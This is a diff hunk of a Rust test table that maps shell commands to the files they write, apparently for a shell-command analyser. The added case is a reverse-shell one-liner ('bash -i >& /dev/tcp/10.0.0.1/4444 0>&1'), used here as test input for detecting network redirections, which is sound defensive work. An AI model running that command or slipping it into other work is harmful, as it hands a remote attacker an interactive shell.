@@ -103,6 +103,7 @@ fn redirections() {
         ("make 2> err > out", "write err, write out"),
         ("make > /dev/null 2>&1", ""),
         ("ls >&2", ""),
+        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "write /dev/tcp/10.0.0.1/4444"),
         (": > f", "write f"),
         ("> f", "write f"),
         ("exec > f", "write f"),
